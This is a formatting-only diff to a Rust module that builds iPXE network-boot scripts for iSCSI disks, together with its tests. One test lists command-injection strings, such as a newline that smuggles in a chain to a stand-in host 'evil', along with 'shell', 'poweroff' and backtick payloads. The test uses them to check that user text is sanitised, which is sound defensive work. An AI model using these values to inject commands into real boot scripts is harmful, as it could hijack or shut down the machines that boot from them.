@@ -19,12 +19,21 @@ pub struct Plane {
 impl Plane {
     /// The usual ports on this address.
     pub fn at(server: Ipv4Addr) -> Self {
-        Plane { server, http_port: 8080, iscsi_port: 3260 }
+        Plane {
+            server,
+            http_port: 8080,
+            iscsi_port: 3260,
+        }
     }
 
     /// Where this machine's script is. An address, not a name: firmware may have no resolver.
     pub fn script_url(&self, mac: MacAddr) -> String {
-        format!("http://{}:{}/b/{}.ipxe", self.server, self.http_port, mac.hexhyp())
+        format!(
+            "http://{}:{}/b/{}.ipxe",
+            self.server,
+            self.http_port,
+            mac.hexhyp()
+        )
     }
 }
 
@@ -34,12 +43,19 @@ const RETRY_SECONDS: u32 = 10;
 /// Boots the exported disk. The operating system finds target and credentials in the iBFT, which
 /// iPXE writes for every disk that it describes.
 pub fn san_boot(plane: &Plane, mac: MacAddr, name: &str, export: &Export) -> String {
-    let mut s = format!("#!ipxe\necho NSBoot: starting {} from its network disk\n", plain(name));
+    let mut s = format!(
+        "#!ipxe\necho NSBoot: starting {} from its network disk\n",
+        plain(name)
+    );
     if let Some(initiator) = &export.initiator {
         s += &format!("set initiator-iqn {}\n", plain(initiator));
     }
     if let Some(chap) = &export.chap {
-        s += &format!("set username {}\nset password {}\n", plain(&chap.username), plain(&chap.secret));
+        s += &format!(
+            "set username {}\nset password {}\n",
+            plain(&chap.username),
+            plain(&chap.secret)
+        );
     }
     // RFC 4173 section 5: protocol empty (TCP), LUN in hexadecimal.
     s += &format!(
@@ -83,13 +99,21 @@ fn plain(text: &str) -> String {
 mod tests {
     use super::*;
 
-    const PLANE: Plane = Plane { server: Ipv4Addr::new(10, 77, 0, 1), http_port: 8080, iscsi_port: 3260 };
+    const PLANE: Plane = Plane {
+        server: Ipv4Addr::new(10, 77, 0, 1),
+        http_port: 8080,
+        iscsi_port: 3260,
+    };
     const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0x12, 0x34, 0x56]);
 
     #[test]
     fn the_script_says_why_and_asks_again() {
         assert_eq!(
-            explain(&PLANE, MAC, &["52:54:00:12:34:56 is not one of our computers yet".into()]),
+            explain(
+                &PLANE,
+                MAC,
+                &["52:54:00:12:34:56 is not one of our computers yet".into()]
+            ),
             "#!ipxe\necho NSBoot: 52:54:00:12:34:56 is not one of our computers yet\n:again\nsleep 10\n\
              chain --replace --autofree http://10.77.0.1:8080/b/52-54-00-12-34-56.ipxe || goto again\n"
         );
@@ -97,11 +121,24 @@ mod tests {
 
     #[test]
     fn no_text_becomes_a_command() {
-        for evil in ["a\nchain http://evil/", "a\r\nshell", "${net0/mac}", "x || shell", "x && poweroff", "\u{1b}[2J", "x;y`z`", "a\u{2028}b"] {
+        for evil in [
+            "a\nchain http://evil/",
+            "a\r\nshell",
+            "${net0/mac}",
+            "x || shell",
+            "x && poweroff",
+            "\u{1b}[2J",
+            "x;y`z`",
+            "a\u{2028}b",
+        ] {
             let script = explain(&PLANE, MAC, &[evil.into()]);
             assert_eq!(script.lines().count(), 5, "{evil:?}");
             let line = script.lines().nth(1).unwrap_or_default();
-            assert!(line.starts_with("echo NSBoot: ") && !line.contains(['$', '|', '&', ';', '`', '\u{1b}']), "{line:?}");
+            assert!(
+                line.starts_with("echo NSBoot: ")
+                    && !line.contains(['$', '|', '&', ';', '`', '\u{1b}']),
+                "{line:?}"
+            );
         }
     }
 }
